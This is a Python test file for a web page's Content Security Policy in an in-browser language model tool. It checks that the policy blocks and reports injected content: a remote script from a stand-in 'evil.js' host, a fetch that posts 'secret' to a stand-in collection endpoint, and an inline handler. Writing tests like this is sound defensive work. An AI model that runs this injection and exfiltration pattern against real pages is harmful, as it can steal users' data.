"""The page's Content Security Policy (webtools/csp.py), both ways of opening it: the page loads a model and
generates with nothing blocked, while a script or a fetch that is not the page's own is blocked by the
policy (not merely failing for want of a network) and reported in pocketlm.securityViolations."""

from __future__ import annotations

from webtools.csp import CONTENT_SECURITY_POLICY

RELEASE_NAME = "sql-autocomplete"  # built into the test site (conftest.site_dir)

INJECT = """async () => {
  const ran = await new Promise((resolve) => {
    const s = document.createElement("script");
    s.src = "https://cdn.example.com/evil.js";
    s.onload = () => resolve(true);
    s.onerror = () => resolve(false);
    document.head.appendChild(s);
  });
  let fetched;
  try { await fetch("https://api.example.com/collect", {method: "POST", body: "secret"}); fetched = true; }
  catch (e) { fetched = false; }
  const inline = document.createElement("div");
  inline.setAttribute("onclick", "window.inlineRan = true");
  document.body.appendChild(inline);
  inline.click();
  await new Promise((r) => setTimeout(r, 100));  // violation events are dispatched asynchronously
  return {ran, fetched, inlineRan: Boolean(window.inlineRan), violations: pocketlm.securityViolations};
}"""


def test_the_policy_is_in_the_page(site_dir):
    with open(f"{site_dir}/index.html", encoding="utf-8") as f:
        html = f.read()
    assert '<meta http-equiv="Content-Security-Policy" content="' in html
    assert "'unsafe-inline'" not in CONTENT_SECURITY_POLICY and "'unsafe-eval'" not in CONTENT_SECURITY_POLICY


def test_remote_scripts_fetches_and_inline_handlers_are_blocked_and_reported(page, page_url):
    page.goto(page_url + "?autoload=0")
    out = page.evaluate("""async (name) => { const m = await pocketlm.load(name);
        const o = await m.generate("SELECT name FROM", {schema: "singer(name, age)", max_new_tokens: 4});
        m.dispose(); return {text: o.text, violations: [...pocketlm.securityViolations]}; }""", RELEASE_NAME)
    assert out["violations"] == [] and isinstance(out["text"], str)  # the page itself needs nothing blocked
    res = page.evaluate(INJECT)
    assert res["ran"] is False and res["fetched"] is False and res["inlineRan"] is False
    by_directive = {v["directive"]: v["blocked"] for v in res["violations"]}
    assert by_directive.get("script-src-elem", "").startswith("https://cdn.example.com/")
    assert by_directive.get("connect-src", "").startswith("https://api.example.com/")
    assert "script-src-attr" in by_directive  # the inline onclick handler
    assert not page.errors


def test_make_serve_sends_the_policy_for_the_worker_script(server):
    import urllib.request

    with urllib.request.urlopen(server + "worker.mjs") as r:
        assert r.headers["Content-Security-Policy"] == CONTENT_SECURITY_POLICY
